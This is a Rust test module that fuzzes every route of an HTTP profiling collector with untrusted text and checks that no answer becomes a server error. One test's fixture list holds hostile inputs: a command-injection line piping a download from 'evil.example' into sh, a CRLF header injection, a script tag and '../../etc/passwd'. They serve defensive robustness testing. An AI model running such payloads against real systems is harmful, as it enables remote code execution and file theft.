//! Whole requests of every route over what a stranger stored. Nothing that was sent may make an answer fail
//! for somebody else.

use axum::body::Body;
use axum::http::{Method, Request, StatusCode, Version, header};

use super::stranger::{Push, Stranger};
use super::{Subject, framed};
use crate::serve::access::ROUTES;

/// Parameters that answers are asked with, besides those of a range. `~` is one of the stranger's.
const PARAMETERS: [&str; 32] = [
    "",
    "task=~",
    "worker=~",
    "run=~",
    "label=~%3D~",
    "group=worker",
    "group=label:~",
    "format=columns",
    "summary=true",
    "by=task",
    "by=thread",
    "key=~",
    "name=~",
    "outside=all&threads=all&state=all",
    "phase=~",
    "thread=~&phases=true",
    "focus=~&hide=~&merge=re%3A%5E",
    "baseline=-10m",
    "stacks=own&zoom=1zx94b",
    "by=peer",
    "peer=~",
    "type=~&order=bytes",
    "measure=process_cpu&step=1s",
    "limit=3&sort=-duration",
    "outcome=failed",
    "build_id=~",
    "kind=~",
    "query=process_cpu%7Bservice_name%3D%22~%22%7D&until=now",
    "leftQuery=~&rightQuery=~",
    "label=service_name&query=~",
    "next=~",
    "before_run=~&before_worker=~",
];

/// Methods of Pyroscope's queries; the last one does not exist.
const METHODS: [&str; 7] = [
    "ProfileTypes",
    "LabelNames",
    "LabelValues",
    "SelectSeries",
    "SelectMergeStacktraces",
    "SelectMergeSpanProfile",
    "~",
];

impl Subject {
    /// Stores what a stranger sends: these texts in every field of agents' streams and of pushes. Each part
    /// is stored or refused.
    pub fn fill(&mut self, texts: &[String]) {
        let stranger = Stranger {
            texts,
            now: self.now(),
        };
        for messages in stranger.streams() {
            self.attach(framed(&messages));
        }
        for push in stranger.pushes() {
            let path = push.path.clone();
            let (status, body) = self.post(push);
            assert!(!status.is_server_error(), "{path}: {status}: {body}");
        }
    }

    /// Requests each route once. `choose` chooses the parameters and the texts in them: it returns a
    /// number for a number of choices.
    ///
    /// # Panics
    /// If an answer is a defect.
    pub fn ask_every_route(&mut self, texts: &[String], choose: &mut dyn FnMut(usize) -> usize) {
        let stranger = Stranger {
            texts,
            now: self.now(),
        };
        for route in ROUTES {
            let mut path = route
                .path
                .replace("{name}", "~")
                .replace("{*rest}", "Attach");
            if path.contains("{method}") {
                path = path.replace("{method}", METHODS[choose(METHODS.len())]);
            }
            let parameters = PARAMETERS[choose(PARAMETERS.len())];
            // A live profile would wait for its time; its answer is that of `profile.pb.gz`.
            let live = path.starts_with("/debug/").then_some("seconds=0");
            let range = ["", "from=-1h&to=now"][choose(2)];
            let query = [range, live.unwrap_or(parameters)].join("&");
            let mut address = format!("{path}?{}", query.trim_matches('&'));
            while let Some((before, after)) = address.split_once("~") {
                address = [before, &stranger.encoded(choose(texts.len().max(1))), after].concat();
            }
            self.check(&route.method, &address, &stranger, choose);
        }
    }

    fn check(
        &mut self,
        method: &Method,
        address: &str,
        stranger: &Stranger<'_>,
        choose: &mut dyn FnMut(usize) -> usize,
    ) {
        let text = stranger.text(choose(stranger.texts.len().max(1)));
        let (content_type, body) = match *method {
            Method::POST if address.starts_with("/login") => {
                let form = form_urlencoded::Serializer::new(String::new())
                    .append_pair("token", text)
                    .append_pair("next", text)
                    .finish();
                ("application/x-www-form-urlencoded", form)
            }
            Method::POST | Method::PUT => {
                let json = serde_json::json!({
                    "name": text, "build_id": text, "workers": [text], "interval_ns": 20_000_000,
                    "label": text, "labelSelector": format!("{{service_name={text:?}}}"),
                    "profileTypeID": "process_cpu:cpu:nanoseconds:cpu:nanoseconds",
                    "start": (stranger.now.unix_ns() / 1_000_000 - 60_000).to_string(),
                    "end": (stranger.now.unix_ns() / 1_000_000).to_string(), "query": text,
                });
                ("application/json", json.to_string())
            }
            _ => ("text/plain", String::new()),
        };
        let accept = ["*/*", "text/html"][choose(2)];
        let request = Request::builder()
            .method(method)
            .version(if address.contains(".v1") {
                Version::HTTP_2
            } else {
                Version::HTTP_11
            })
            .uri(format!("http://127.0.0.1:4747{address}"))
            .header(header::HOST, "127.0.0.1:4747")
            .header(header::CONTENT_TYPE, content_type)
            .header(header::ACCEPT, accept)
            .body(Body::from(body));
        // An address of the longest texts cannot be written in a request.
        let Ok(request) = request else { return };
        let response = self.call(request);
        let status = response.status();
        for (name, value) in response.headers() {
            assert!(
                value.to_str().is_ok(),
                "{method} {address}: {name}: {value:?}"
            );
        }
        let is_endless = response
            .headers()
            .get(header::CONTENT_TYPE)
            .is_some_and(|kind| kind == "text/event-stream");
        let body = if is_endless {
            Vec::new()
        } else {
            self.body_of(response)
        };
        // A collector without a store, and methods that it does not have, say so.
        let is_expected = status == StatusCode::NOT_IMPLEMENTED || !status.is_server_error();
        assert!(
            is_expected,
            "{method} {address}: {status}: {}",
            String::from_utf8_lossy(&body)
        );
    }

    fn post(&mut self, push: Push) -> (StatusCode, String) {
        let request = Request::builder()
            .method(Method::POST)
            .uri(push.path)
            .header(header::HOST, "127.0.0.1:4747")
            .header(header::CONTENT_TYPE, push.content_type)
            .body(Body::from(push.body));
        let response = self.call(request.expect("the texts in it are escaped"));
        let status = response.status();
        (
            status,
            String::from_utf8_lossy(&self.body_of(response)).into_owned(),
        )
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use proptest::test_runner::{TestRng, TestRunner};

    use super::*;
    use state::testing::at;

    /// Asks everything with as many different parameters as `rounds`, in memory and in tables.
    fn check(texts: &[String], rounds: usize, rng: &mut TestRng) {
        let mut subject = Subject::empty(at(3_600));
        subject.fill(texts);
        for round in 0..2 * rounds {
            if round == rounds {
                subject.seal().unwrap();
            }
            subject.ask_every_route(texts, &mut |count| rng.random_range(0..count));
        }
    }

    #[test]
    fn no_text_of_a_stranger_makes_an_answer_fail() {
        let texts = [
            "b\n",
            "bad\r\nx-evil: 1",
            "aa;curl http://evil.example/x|sh #",
            "\u{0}\u{7f}\u{85}",
            "é\u{202e}",
            "\"},{<script>",
            "../../etc/passwd",
            "%00%0a",
            "[overflow]",
            "",
            " ",
            "@1",
        ]
        .map(str::to_owned);
        check(
            &texts,
            2,
            &mut TestRng::deterministic_rng(Default::default()),
        );
    }

    /// Two cases, whatever the environment says: each asks every route.
    #[test]
    fn no_generated_text_makes_an_answer_fail() {
        let config = ProptestConfig {
            cases: 2,
            ..ProptestConfig::default()
        };
        let texts = prop::collection::vec(any::<String>(), 1..10);
        let rng = any::<u64>().prop_perturb(|_, rng| rng);
        let checked = TestRunner::new(config).run(&(texts, rng), |(texts, mut rng)| {
            check(&texts, 1, &mut rng);
            Ok(())
        });
        checked.unwrap();
    }
}
